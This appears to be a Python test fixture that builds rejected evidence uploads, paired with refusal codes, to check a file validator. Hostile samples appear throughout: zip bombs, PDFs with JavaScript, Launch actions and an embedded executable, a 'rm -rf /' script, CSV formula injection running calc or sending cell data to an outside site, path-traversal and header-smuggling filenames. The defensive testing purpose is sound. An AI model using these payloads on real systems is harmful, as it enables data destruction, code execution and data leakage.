"""Evidence files that must not be kept, each made by code, and the reason each is refused for."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from shared.kernel.media import CSV, JPEG, MP4, PDF, PNG, XLSX
from tests import papers

Make = Callable[[], bytes]

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"


def _zip() -> bytes:
    told = io.BytesIO()
    with zipfile.ZipFile(told, "w") as archive:
        archive.writestr("a.txt", "a")
    return told.getvalue()


def _bomb() -> bytes:
    """A few hundred kilobytes that unfold to three hundred megabytes."""
    return papers.xlsx({"xl/media/image1.bin": bytes(300 * 1024 * 1024)})


def _small_bomb() -> bytes:
    """Within the bound of size, and still a thousand times its own."""
    return papers.xlsx({"xl/media/image1.bin": bytes(20 * 1024 * 1024)})


def _noisy_bomb() -> bytes:
    """Unfolds to more than a workbook may, and yet to not much more than such files do."""
    return papers.xlsx(
        {"xl/media/a.bin": papers.noise(3_000_000), "xl/media/b.bin": bytes(240 * 1024 * 1024)}
    )


def _broken_end() -> bytes:
    """Its last byte of three million is another than the checksum says."""
    content = papers.noise(3_000_000)
    good = papers.xlsx({"xl/media/a.bin": content}, zipfile.ZIP_STORED)
    return good.replace(content[-16:], content[-16:-1] + bytes([content[-1] ^ 1]))


def _lying_bomb() -> bytes:
    """Says of a part that it holds ten bytes."""
    good = papers.xlsx({"xl/media/image1.bin": bytes(3 * 1024 * 1024)})
    return good.replace(struct.pack("<I", 3 * 1024 * 1024), struct.pack("<I", 10))


def _twice() -> bytes:
    """The same name twice: which one a program reads is anyone's guess."""
    told = io.BytesIO(papers.xlsx({"xl/worksheets/sheet2.xml": "<a/>"}))
    return told.getvalue().replace(b"sheet2.xml", b"sheet1.xml")


def _locked_zip() -> bytes:
    """The bit that says a part is encrypted, in both of its headers."""
    file = bytearray(papers.xlsx())
    file[6] |= 1
    for at in range(len(file) - 4):
        if file[at : at + 4] == b"PK\x01\x02":
            file[at + 8] |= 1
    return bytes(file)


def _broken_sum() -> bytes:
    """A stored part with one bit turned."""
    return papers.xlsx(method=zipfile.ZIP_STORED).replace(b"<v>42</v>", b"<v>43</v>")


def _wide_png() -> bytes:
    """Says that it has ten thousand million pixels."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + papers.chunk(b"IHDR", head)
        + papers.chunk(b"IDAT", zlib.compress(bytes(100)))
        + papers.chunk(b"IEND", b"")
    )


def _large_png() -> bytes:
    """Just above our bound and below the library's own."""
    return papers.png(10_001, 10_000)


def _circular_pages() -> bytes:
    return papers.pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>",
    )


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"

# What it is: the type it is sent as, its bytes, and why it is refused.
BAD: Mapping[str, tuple[str, Make, str]] = {
    # nothing, or something else
    "an empty PDF": (PDF, bytes, "evidence.empty"),
    "a CSV of blank lines": (CSV, lambda: b"\n , \n\n", "evidence.empty"),
    "a program called PDF": (PDF, lambda: b"MZ" + bytes(200), "evidence.other_content"),
    "a Linux program as picture": (PNG, lambda: b"\x7fELF" + bytes(99), "evidence.other_content"),
    "a shell script as CSV": (CSV, lambda: b"#!/bin/sh\nrm -rf /\n", "evidence.other_content"),
    "a page called PDF": (PDF, lambda: HTML, "evidence.other_content"),
    "a page called CSV": (CSV, lambda: b"\xef\xbb\xbf  " + HTML, "evidence.other_content"),
    "a drawing (SVG) as PNG": (PNG, lambda: SVG, "evidence.other_content"),
    "a drawing (SVG) as CSV": (CSV, lambda: SVG, "evidence.other_content"),
    "a PDF called PNG": (PNG, papers.pdf, "evidence.other_content"),
    "a JPEG called PNG": (PNG, papers.jpeg, "evidence.other_content"),
    "a PNG called PDF": (PDF, papers.png, "evidence.other_content"),
    "a picture (GIF) as JPEG": (JPEG, lambda: b"GIF89a" + bytes(50), "evidence.other_content"),
    "a workbook called PDF": (PDF, papers.xlsx, "evidence.other_content"),
    "an archive called workbook": (XLSX, _zip, "evidence.other_content"),
    "a letter (DOCX) as workbook": (
        XLSX,
        lambda: papers.xlsx({"xl/workbook.xml": None, "word/document.xml": "<w/>"}),
        "evidence.other_content",
    ),
    "an old workbook (XLS)": (XLSX, lambda: OLE + bytes(600), "evidence.other_content"),
    "a PDF behind a page": (PDF, lambda: HTML + papers.pdf(), "evidence.other_content"),
    "a PDF behind text": (CSV, lambda: b"a,b\n" + papers.pdf(), "evidence.other_content"),
    "an iPhone's own video (MOV)": (
        MP4,
        lambda: papers.mp4(brand=b"qt  "),
        "evidence.other_content",
    ),
    "an iPhone's own photograph (HEIC)": (
        JPEG,
        lambda: papers.mp4(brand=b"heic"),
        "evidence.other_content",
    ),
    "UTF-16 as CSV": (CSV, lambda: "nomor,nama\n".encode("utf-16"), "evidence.other_encoding"),
    # two things at once
    "a PDF with an archive behind it": (PDF, lambda: papers.pdf() + _zip(), "evidence.two_kinds"),
    "a JPEG with an archive behind it": (
        JPEG,
        lambda: papers.jpeg() + _zip(),
        "evidence.two_kinds",
    ),
    "a PNG with an archive behind it": (PNG, lambda: papers.png() + _zip(), "evidence.two_kinds"),
    "a video with an archive behind it": (MP4, lambda: papers.mp4() + _zip(), "evidence.two_kinds"),
    # PDF
    "a PDF cut in half": (PDF, lambda: papers.pdf()[:300], "evidence.truncated"),
    "a PDF of its first line": (PDF, lambda: b"%PDF-1.4\n", "evidence.truncated"),
    "a PDF of noise": (PDF, lambda: b"%PDF-1.4\nxyz\n%%EOF\n", "evidence.unopenable"),
    "a locked PDF": (
        PDF,
        lambda: papers.pdf_with(
            b"",
            b"",
            b"<< /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >>" % (b"o" * 32, b"u" * 32),
            trailer=b"/Encrypt 4 0 R /ID [(a) (a)]",
        ),
        "evidence.encrypted",
    ),
    "a PDF without a page": (
        PDF,
        lambda: papers.pdf_of(
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
        ),
        "evidence.without_pages",
    ),
    "a PDF whose pages hold themselves": (PDF, _circular_pages, "evidence.unopenable"),
    "a PDF whose page is missing": (
        PDF,
        lambda: papers.pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", papers.PAGES),
        "evidence.without_pages",
    ),
    "a PDF whose page has lost its content": (
        PDF,
        lambda: papers.pdf_with(b"", b"/Contents 9 0 R"),
        "evidence.unopenable",
    ),
    "a PDF that runs a script on opening": (
        PDF,
        lambda: papers.pdf_with(b"/OpenAction " + JAVASCRIPT),
        "evidence.active_content",
    ),
    "a PDF that starts a program": (
        PDF,
        lambda: papers.pdf_with(b"", b"/Annots [<< /Subtype /Link /A 4 0 R >>]", LAUNCH),
        "evidence.active_content",
    ),
    "a PDF whose script hides behind another action": (
        PDF,
        lambda: papers.pdf_with(b"/OpenAction << /S /GoTo /Next [4 0 R] >>", b"", JAVASCRIPT),
        "evidence.active_content",
    ),
    "a PDF with scripts by name": (
        PDF,
        lambda: papers.pdf_with(
            b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", JAVASCRIPT
        ),
        "evidence.active_content",
    ),
    "a PDF whose script is packed": (
        PDF,
        lambda: papers.pdf_packed(JAVASCRIPT),
        "evidence.active_content",
    ),
    "a PDF whose script is spelt otherwise": (
        PDF,
        lambda: papers.pdf_with(b"/OpenAction << /S /#4aava#53cript /#4a#53 (x) >>"),
        "evidence.active_content",
    ),
    "a PDF whose page acts": (
        PDF,
        lambda: papers.pdf_with(b"", b"/AA << /O 4 0 R >>", LAUNCH),
        "evidence.active_content",
    ),
    "a PDF with a file inside": (
        PDF,
        lambda: papers.pdf_with(
            b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>",
            b"",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Length 2 >>\nstream\nMZ\nendstream",
        ),
        "evidence.active_content",
    ),
    # pictures
    "a JPEG cut in half": (JPEG, lambda: papers.jpeg()[:-900], "evidence.truncated"),
    "a JPEG of its first bytes": (JPEG, lambda: b"\xff\xd8\xff\xe0", "evidence.unopenable"),
    "a PNG cut in half": (PNG, lambda: papers.png(200, 200)[:-30], "evidence.truncated"),
    "a PNG without its rows": (
        PNG,
        lambda: papers.png(200, 200, rows=b"\0" * 50),
        "evidence.truncated",
    ),
    "a PNG with a wrong checksum": (
        PNG,
        lambda: papers.png().replace(b"IDAT", b"IDAT\x00", 1),
        "evidence.unopenable",
    ),
    "a PNG of ten thousand million pixels": (PNG, _wide_png, "evidence.unfolds"),
    "a PNG of more pixels than a telephone has": (PNG, _large_png, "evidence.unfolds"),
    # workbooks
    "a workbook cut in half": (XLSX, lambda: papers.xlsx()[:700], "evidence.truncated"),
    "a workbook with a wrong checksum": (XLSX, _broken_sum, "evidence.truncated"),
    "a workbook with macros": (
        XLSX,
        lambda: papers.xlsx({"xl/vbaProject.bin": b"\xd0\xcf"}),
        "evidence.active_content",
    ),
    "a workbook with old macros": (
        XLSX,
        lambda: papers.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}),
        "evidence.active_content",
    ),
    "a macro workbook (XLSM) renamed": (
        XLSX,
        lambda: papers.xlsx(
            {
                "[Content_Types].xml": papers.WORKBOOK["[Content_Types].xml"].replace(
                    "spreadsheetml.sheet.main", "ms-excel.sheet.macroEnabled.main"
                )
            }
        ),
        "evidence.active_content",
    ),
    "a workbook that calls a program (DDE)": (
        XLSX,
        lambda: papers.xlsx({"xl/externalLinks/externalLink1.xml": "<a><ddeLink/></a>"}),
        "evidence.active_content",
    ),
    "a workbook with entities": (
        XLSX,
        lambda: papers.xlsx(
            {"xl/worksheets/sheet1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>'}
        ),
        "evidence.active_content",
    ),
    "a workbook whose part leaves its folder": (
        XLSX,
        lambda: papers.xlsx({"../../etc/cron.d/a": "x"}),
        "evidence.unsafe_part",
    ),
    "a workbook with an absolute part": (
        XLSX,
        lambda: papers.xlsx({"/etc/passwd": "x"}),
        "evidence.unsafe_part",
    ),
    "a workbook with a NUL in a part's name": (
        XLSX,
        lambda: papers.xlsx({"xl/aXb.xml": "x"}).replace(b"xl/aXb.xml", b"xl/a\x00b.xml"),
        "evidence.unsafe_part",
    ),
    "a workbook with a part twice": (XLSX, _twice, "evidence.unsafe_part"),
    "a zip bomb": (XLSX, _bomb, "evidence.unfolds"),
    "a small zip bomb": (XLSX, _small_bomb, "evidence.unfolds"),
    "a zip bomb that lies": (XLSX, _lying_bomb, "evidence.truncated"),
    "a zip bomb beside noise": (XLSX, _noisy_bomb, "evidence.unfolds"),
    "a workbook whose large part ends otherwise": (XLSX, _broken_end, "evidence.truncated"),
    "a workbook of six thousand parts": (
        XLSX,
        lambda: papers.xlsx({f"xl/a{number}.xml": "" for number in range(6_000)}),
        "evidence.unfolds",
    ),
    "a workbook with a locked part": (XLSX, _locked_zip, "evidence.encrypted"),
    "a workbook with a password": (
        XLSX,
        lambda: OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(99),
        "evidence.encrypted",
    ),
    "a workbook without sheets": (
        XLSX,
        lambda: papers.xlsx(
            {
                "xl/workbook.xml": papers.WORKBOOK["xl/workbook.xml"].replace(
                    '<sheet name="Data" sheetId="1" r:id="rId1"/>', ""
                )
            }
        ),
        "evidence.without_pages",
    ),
    "a workbook whose sheet is broken": (
        XLSX,
        lambda: papers.xlsx({"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row><c"}),
        "evidence.unopenable",
    ),
    "a workbook whose sheet is missing": (
        XLSX,
        lambda: papers.xlsx({"xl/worksheets/sheet1.xml": None}),
        "evidence.unopenable",
    ),
    # CSV
    "a CSV with NUL": (
        CSV,
        lambda: b"a,b\n" + b"x" * 5000 + b"\x00\n",
        "evidence.control_character",
    ),
    "a CSV with an escape": (CSV, lambda: b"a,b\n\x1b[31m,c\n", "evidence.control_character"),
    "a CSV of Windows": (
        CSV,
        lambda: "nama\nCaf\xe9\n".encode("cp1252"),
        "evidence.other_encoding",
    ),
    "a CSV with an open quote": (CSV, lambda: b'a,b\n"c,d\n', "evidence.unopenable"),
    "a CSV of one endless line": (CSV, lambda: b"a," * 600_000, "evidence.unopenable"),
    "a CSV that calls a program": (
        CSV,
        lambda: b"a,=cmd|'/C calc'!A0\n",
        "evidence.active_content",
    ),
    "a CSV that asks a web site": (
        CSV,
        lambda: b'a,"=WEBSERVICE(""http://x.id/""&A1)"\n',
        "evidence.active_content",
    ),
    "bytes as CSV": (CSV, lambda: b"\x00\x01\x02\x03" * 20, "evidence.other_content"),
    # video
    "a video cut in half": (MP4, lambda: papers.mp4()[:-40], "evidence.truncated"),
    "a video without its index": (MP4, lambda: papers.mp4()[:104], "evidence.truncated"),
    "a video of its first box": (MP4, lambda: papers.mp4()[:24], "evidence.truncated"),
    "a video whose pieces lie behind its end": (
        MP4,
        lambda: papers.mp4(offset=9_999),
        "evidence.truncated",
    ),
    "a video with noise behind it": (
        MP4,
        lambda: papers.mp4() + b"noise noise",
        "evidence.truncated",
    ),
    "a song called video": (MP4, lambda: papers.mp4(handler=b"soun"), "evidence.without_pictures"),
}

# What a file was called: the name as it is sent, percent-encoded, and why it is refused.
BAD_NAMES: Mapping[str, tuple[str, str]] = {
    "a folder": ("..%2F..%2Fetc%2Fpasswd.pdf", "evidence.name_reserved"),
    "a folder of Windows": ("C%3A%5Cdata%5Cbukti.pdf", "evidence.name_reserved"),
    "a NUL": ("bukti.pdf%00.exe", "evidence.name_hides"),
    "a line end": ("bukti%0D%0ASet-Cookie%3A a.pdf", "evidence.name_hides"),
    "a mark that turns the writing": ("bukti%E2%80%AEfdp.exe.pdf", "evidence.name_hides"),
    "an isolate": ("bukti%E2%81%A6a.pdf", "evidence.name_hides"),
    "an invisible joiner": ("buk%E2%80%8Bti.pdf", "evidence.name_hides"),
    "half of a pair": ("bukti%ED%A0%80.pdf", "evidence.name_malformed"),
    "no UTF-8": ("bukti%FF.pdf", "evidence.name_malformed"),
    "a broken escape": ("bukti%2.pdf", "evidence.name_malformed"),
    "a program": ("bukti.pdf.exe", "evidence.name_ending"),
    "another kind": ("foto.png", "evidence.name_ending"),
    "no ending": ("bukti", "evidence.name_malformed"),
    "nothing but an ending": (".pdf", "evidence.name_malformed"),
    "a hidden file": (".bukti.pdf", "evidence.name_malformed"),
    "a space in front": ("%20bukti.pdf", "evidence.name_malformed"),
    "a device": ("CON.pdf", "evidence.name_reserved"),
    "a quote": ("a%22b.pdf", "evidence.name_reserved"),
    "too much": ("a" * 130 + ".pdf", "evidence.name_too_long"),
    "nothing": ("", "evidence.name_malformed"),
}
